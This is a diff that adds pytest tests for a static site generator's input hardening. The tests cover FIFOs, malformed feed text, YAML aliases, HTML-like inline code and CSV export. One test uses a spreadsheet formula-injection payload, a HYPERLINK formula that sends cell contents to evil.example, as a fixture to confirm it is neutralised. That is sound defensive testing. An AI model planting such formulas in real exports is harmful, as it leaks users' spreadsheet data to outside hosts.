@@ -3,6 +3,9 @@ from the cache, writes through planted links, inputs that hang or crash the buil
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
 import pickle
 import shutil
@@ -10,6 +13,7 @@ import sqlite3
 import subprocess
 import threading
 from pathlib import Path
+from xml.etree import ElementTree
 
 import jinja2.bccache
 import pytest
@@ -275,3 +279,76 @@ def test_an_empty_folder_among_actor_files_gets_the_same_answer_after_a_build(ma
     for result in builds(content, output, tmp_path):  # the build, not the shortcut
         assert result.status == 1
         assert "content/actors/x.yaml: not an actor file\n" in result.stderr
+
+
+# --- inputs that hang, or pass check and break the site ----------------------------------
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
+def test_a_fifo_among_the_actor_files_is_reported_not_read(make_site, tmp_path):
+    content = make_site({"a.yaml": VALID_ACTOR})
+    os.mkfifo(content / "actors" / "b.yaml")  # reading it would wait for a writer forever
+    for result in builds(content, tmp_path / "out", tmp_path):
+        assert result.status == 1
+        assert result.stderr.startswith(
+            "content/actors/b.yaml: not a regular file (a pipe, a device or a socket)\n"
+        ), result.stderr
+
+
+def test_every_text_of_the_feed_is_well_formed_xml(make_site, tmp_path):
+    site = 'title: "Annuaire \\x07 \\uFFFE"\nbase_url: https://example.org/\n'
+    content = make_site({"a.yaml": VALID_ACTOR}, site_yaml=site)
+    result = run_cli("--content", content, "--output", tmp_path / "out", cwd=tmp_path)
+    if result.status == 0:  # a setting no check refuses: the feed is still well-formed
+        feed = ElementTree.parse(tmp_path / "out" / "flux.xml").getroot()
+        assert feed.find("{http://www.w3.org/2005/Atom}title").text.startswith("Annuaire")
+
+
+# --- messages that pointed the wrong way -------------------------------------------------
+
+
+def test_a_decomposed_accent_is_the_same_word(make_site, tmp_path):
+    decomposed = "I\u0302le-de-France"  # I + combining circumflex, as some keyboards type it
+    actor = VALID_ACTOR.replace("[Occitanie]", f"[{decomposed}]")
+    content = make_site({"a.yaml": actor})
+    result = run_cli("--content", content, "--output", tmp_path / "out", cwd=tmp_path)
+    assert result.status == 0, result.stderr
+    assert (tmp_path / "out" / "territoires" / "ile-de-france" / "index.html").exists()
+
+
+def test_many_aliases_of_one_file_get_one_message(make_site, tmp_path):
+    aliases = "services:\n" + "  - title: *n\n" * 90
+    content = make_site({"a.yaml": VALID_ACTOR.replace("name: ", "name: &n ") + aliases})
+    result = run_cli("check", "--content", content, cwd=tmp_path)
+    assert result.status == 1
+    assert result.stderr.count("YAML aliases") == 1, result.stderr
+    assert (
+        "content/actors/a.yaml:7: YAML aliases (*name) are not allowed: 90 in this file "
+        "(line(s) 7, 8, 9, 10, 11, …)\n"
+    ) in result.stderr
+
+
+def test_inline_code_that_looks_like_a_tag_is_text_not_a_link(make_site, tmp_path):
+    about = 'about: |\n  Collez `<img src="/widget.png">` et `<a href="/x/">` dans votre page.\n'
+    content = make_site({"a.yaml": VALID_ACTOR + about})
+    result = run_cli("--content", content, "--output", tmp_path / "out", cwd=tmp_path)
+    assert result.status == 0, result.stderr
+    page = (tmp_path / "out" / "acteurs" / "exemple" / "index.html").read_text()
+    assert "<code>&lt;img src=&quot;/widget.png&quot;&gt;</code>" in page
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(make_site, tmp_path):
+    formula = '=HYPERLINK("https://evil.example/?"&A1, "Cliquez")'
+    actor = VALID_ACTOR.replace("summary: Un acteur valide.", f"summary: '{formula}'")
+    actor += "clients:\n  - '+33 1 23 45 67 89'\n  - '@Ville'\n"
+    content = make_site({"a.yaml": actor})
+    output = tmp_path / "out"
+    assert run_cli("--content", content, "--output", output, cwd=tmp_path).status == 0
+    rows = list(
+        csv.DictReader(io.StringIO((output / "donnees" / "acteurs.csv").read_text("utf-8-sig")))
+    )
+    assert rows[0]["summary"] == "'" + formula
+    assert rows[0]["clients"].startswith("'+33")
+    record = json.loads((output / "donnees" / "acteurs.json").read_text())[0]
+    assert record["summary"] == formula  # the JSON stays exact
+    assert "pour qu&#39;aucun tableur ne" in (output / "donnees" / "index.html").read_text()
